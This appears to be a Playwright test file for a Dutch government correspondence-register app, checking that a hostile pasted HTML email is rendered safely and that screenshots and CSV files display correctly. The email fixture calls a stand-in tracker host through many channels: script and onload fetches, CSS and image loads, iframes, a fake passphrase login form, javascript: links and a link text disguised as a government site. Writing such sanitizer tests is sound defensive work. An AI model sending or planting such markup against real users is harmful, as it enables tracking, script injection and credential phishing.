@@ -1,0 +1,133 @@
+import { expect, test } from './fixtures.ts';
+import { ask, makeOffice, sitDown } from './office.ts';
+
+test.use({ now: '2027-03-09T09:41:00+01:00' });
+
+/** Calls home in every way that a mail knows, looks like the program, and lies about where its link goes. */
+const NASTY = `From: "Burgemeester" <b@gemeente.example>
+To: wietske.harmelink@gmail.com
+Subject: Uitnodiging
+Date: Mon, 8 Mar 2027 10:00:00 +0100
+MIME-Version: 1.0
+Content-Type: text/html; charset=utf-8
+
+<html><head>
+<style>@import url(https://volger.example/a.css); body{background:url(https://volger.example/b.png)}</style>
+<link rel="stylesheet" href="https://volger.example/c.css">
+<meta http-equiv="refresh" content="0;url=https://volger.example/d">
+<base href="https://volger.example/">
+</head><body onload="fetch('https://volger.example/e')" background="https://volger.example/f.png">
+<script>window.top.document.title='gekaapt'; fetch('https://volger.example/g')</script>
+<p style="background:url(https://volger.example/h.png)">Beste <b>Wietske</b>,</p>
+<table><tr><th>Dag</th><td>12 maart</td></tr></table>
+<img src="https://volger.example/i.png" alt="logo" onerror="alert(1)">
+<img src="x" srcset="https://volger.example/j.png 2x" alt="foto">
+<video poster="https://volger.example/k.png" src="https://volger.example/l.mp4" autoplay></video>
+<svg><image href="https://volger.example/m.png"/></svg>
+<iframe src="https://volger.example/n"></iframe>
+<object data="https://volger.example/o"></object>
+<form action="https://volger.example/p"><input name="wachtzin"><button>Inloggen</button></form>
+<a href="https://volger.example/q" ping="https://volger.example/r" target="_top">www.rijksoverheid.nl</a>
+<a href="javascript:alert(1)">klik</a>
+</body></html>
+`;
+
+const ANSWERS = {
+  channel: 'gmail',
+  device: 'PRIVE_TELEFOON',
+  dateFrom: '2027-03-08',
+  dateTo: '2027-03-08',
+  dateCertainty: 'exact',
+  counterparty: 'BURGEMEESTER_DECENTRAAL',
+  subject: 'Uitnodiging',
+  reason: 'SPOED',
+  nature: 'LOGISTIEK',
+  classification: 'ONGERUBRICEERD',
+  evidence: 'attached',
+};
+
+test('a mail that calls home is shown as it was laid out, and nothing leaves', async ({ app, running, problems }) => {
+  // The walls say what they stopped: the cleaner's inert copy, and Playwright's own script in the caged frame.
+  problems.tolerate(/Content Security Policy/);
+  problems.tolerate(/^console: Blocked script execution in 'about:srcdoc'/);
+  const office = await makeOffice(app);
+  await sitDown(app, office, 'secretary');
+  const asked: string[] = [];
+  running.context.on('request', (request) => asked.push(request.url()));
+  const staged = await app.evaluate(
+    async (mail) => {
+      const pasted = [{ name: 'uitnodiging.eml', bytes: new TextEncoder().encode(mail) }];
+      const reply = await kanaal.call('staging.start', { pasted });
+      return (reply as { value: { id: string; answers: object } }).value;
+    },
+    NASTY.replaceAll('\n', '\r\n'),
+  );
+  const { accounts } = await ask<{ accounts: { id: string; channel: string }[] }>(app, 'accounts.list');
+  const accountId = accounts.find((one) => one.channel === 'gmail')!.id;
+  const answers = { ...staged.answers, ...ANSWERS, termId: office.termId, accountId };
+  await ask(app, 'staging.save', { id: staged.id, answers, focus: null });
+  const entry = await ask<{ id: string; number: string }>(app, 'entries.log', { stagingId: staged.id });
+  await app.evaluate((id) => {
+    location.hash = `#/registratie/${id}`;
+  }, entry.id);
+
+  const piece = app.getByRole('region', { name: 'uitnodiging.eml' });
+  await expect(piece.getByRole('heading', { name: 'Uitnodiging' })).toBeVisible();
+  await piece.getByRole('button', { name: 'Toon de opmaak' }).click();
+  const frame = piece.locator('iframe');
+  await expect(frame).toHaveAttribute('sandbox', '');
+  const letter = app.frameLocator('iframe').locator('body');
+  await expect(letter).toContainText('Beste Wietske');
+  await expect(letter.locator('td')).toHaveText('12 maart');
+  // A link goes nowhere and says where it would have gone; what called home is words at most.
+  await expect(letter).toContainText('www.rijksoverheid.nl [https://volger.example/q]');
+  await expect(letter).toContainText('[logo]');
+  await expect(letter.locator('a[href], img, form, input, video, svg, iframe, object, style, script')).toHaveCount(0);
+  await app.waitForTimeout(500);
+  expect(asked.filter((url) => url.includes('volger.example'))).toEqual([]);
+  await expect(app).toHaveTitle(/Kanaalregister/);
+  await piece.getByRole('button', { name: 'Toon als tekst' }).click();
+  await expect(piece.getByText('b@gemeente.example')).toBeVisible();
+
+  // What others see of it: the very cells of the editions.
+  await app.getByRole('button', { name: 'Wat ziet BZK, wat het publiek?' }).click();
+  const dialog = app.getByRole('dialog', { name: `Wat anderen van ${entry.number} zien` });
+  const subject = dialog.getByRole('row', { name: /^Onderwerp/ });
+  await expect(subject.getByRole('cell').first()).toHaveText('Uitnodiging');
+  await expect(subject.getByRole('cell').nth(1)).toHaveText(/^niet \(Woo 5\./);
+  await expect(
+    dialog
+      .getByRole('row', { name: /^Reden/ })
+      .first()
+      .getByRole('cell')
+      .nth(2),
+  ).toHaveText('SPOED');
+  await app.keyboard.press('Escape');
+  await expect(dialog).toHaveCount(0);
+});
+
+test('a screenshot can be made larger, a csv is a table', async ({ app }) => {
+  const office = await makeOffice(app);
+  await sitDown(app, office, 'secretary');
+  await app.evaluate(async () => {
+    const canvas = Object.assign(document.createElement('canvas'), { width: 400, height: 300 });
+    canvas.getContext('2d')!.fillRect(10, 10, 50, 50);
+    const picture = await new Promise<Blob>((resolve) => canvas.toBlob((blob) => resolve(blob!)));
+    const pasted = [
+      { name: 'scherm.png', bytes: new Uint8Array(await picture.arrayBuffer()) },
+      { name: 'lijst.csv', bytes: new TextEncoder().encode('naam;dag\r\n"Jan; de mayor";12 maart\r\n') },
+    ];
+    const reply = (await kanaal.call('staging.start', { pasted })) as { value: { id: string } };
+    location.hash = `#/registreren/${reply.value.id}`;
+  });
+  const picture = app.getByRole('img', { name: 'Afbeelding scherm.png' });
+  await expect(picture).toBeVisible();
+  await app.getByRole('button', { name: 'scherm.png groter' }).click();
+  await app.getByRole('button', { name: 'scherm.png groter' }).click();
+  await app.getByRole('button', { name: 'scherm.png groter' }).click();
+  await expect(app.getByText('200 %', { exact: true })).toBeVisible();
+  expect((await picture.boundingBox())!.width).toBeGreaterThan(799);
+  await app.getByRole('button', { name: 'scherm.png passend' }).click();
+  expect((await picture.boundingBox())!.width).toBeLessThan(500);
+  await expect(app.getByRole('cell', { name: 'Jan; de mayor' })).toBeVisible();
+});
